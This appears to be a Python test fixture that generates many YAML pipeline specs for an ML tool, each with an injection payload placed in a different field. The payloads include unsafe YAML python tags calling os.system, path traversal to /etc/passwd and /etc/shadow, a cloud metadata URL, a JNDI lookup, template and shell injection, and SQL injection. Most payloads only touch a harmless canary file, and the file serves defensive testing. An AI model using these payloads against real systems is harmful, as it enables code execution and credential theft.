"""Specs that want code run, files opened or hosts asked; more than a hundred, from templates and payloads."""

from __future__ import annotations

_PAYLOADS = (
    "!!python/object/apply:os.system ['touch canary']",
    "!!python/name:os.system",
    "!!python/module:canary",
    "!!python/object/new:os.system [touch canary]",
    "canary:explode",
    "canary.py",
    "../../../../etc/passwd",
    "/etc/shadow",
    "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/",
    "\\\\server\\share\\a.parquet",
    "${env:PATH}",
    "${jndi:ldap://example.com/a}",
    "{{ 7 * 7 }}",
    "{% import os %}{{ os.system('touch canary') }}",
    "__import__('os').system('touch canary')",
    "$(touch canary)",
    "`touch canary`",
    "'; DROP TABLE results; --",
    "{a.__class__.__mro__}",
    "%s%s%s%n",
    "{0.__globals__}",
)

_SPEC = """\
mlcycle: 1
description: {description}
sources:
  users: {{kind: {kind}, path: {path}, timestamp: {timestamp}, clean: [{{python: {python}}}]}}
feature_views:
  profile: {{source: users, features: {{x: {{kind: expression, expression: {expression}, dtype: int64}}}}}}
models:
  churn: {{task: regression, label: users.a, features: [profile], trainer: {{python: {python}}}}}
"""
_INNOCENT = {
    "description": "a",
    "kind": "parquet",
    "path": "data/users.parquet",
    "timestamp": "seen_at",
    "python": "canary:explode",
    "expression": "a + 1",
}


def specs() -> list[bytes]:
    """Every payload in every place, plain where that is possible and quoted."""
    made = [_SPEC.format(**_INNOCENT)]
    for place in _INNOCENT:
        for payload in _PAYLOADS:
            quoted = "'" + payload.replace("'", "''") + "'"
            made += [_SPEC.format(**{**_INNOCENT, place: text}) for text in (payload, quoted)]
    return [text.encode() for text in made]
